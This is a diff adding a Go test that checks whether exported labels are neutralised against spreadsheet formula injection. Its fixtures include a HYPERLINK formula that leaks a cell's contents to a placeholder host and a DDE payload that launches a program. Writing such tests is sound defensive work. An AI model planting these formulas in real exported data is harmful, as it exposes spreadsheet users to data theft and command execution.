@@ -53,6 +53,24 @@ func TestMatchesHaveIDs(t *testing.T) {
 	}
 }
 
+// What a spreadsheet would run is text in it, and can be read back; anything else is
+// as the platform wrote it.
+func TestLabelsAreInert(t *testing.T) {
+	for _, label := range []string{
+		"=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", `=HYPERLINK("https://x.example?"&A1)`, "=", "  =1+1", "\u00a0=1", "\ufeff=1", "\x00=1",
+		"＝1", "＋1", "－1", "＠x", "'=1", "'", `=cmd|' /C calc'!A0`,
+	} {
+		if got := inert(label); got != "'"+label {
+			t.Errorf("%q becomes %q", label, got)
+		}
+	}
+	for _, label := range []string{"", " ", "segment 7", "a=b", "a\t=1", "1-2", `"=1"`, "é", ";=1", "\ufeff", "\xff"} {
+		if got := inert(label); got != label {
+			t.Errorf("%q becomes %q", label, got)
+		}
+	}
+}
+
 // A customer file that changes while it is matched gives no ids at all.
 func TestCustomersChangeMeanwhile(t *testing.T) {
 	m, path, list := newMatches(t, "email,id\na@example.com,a\n")
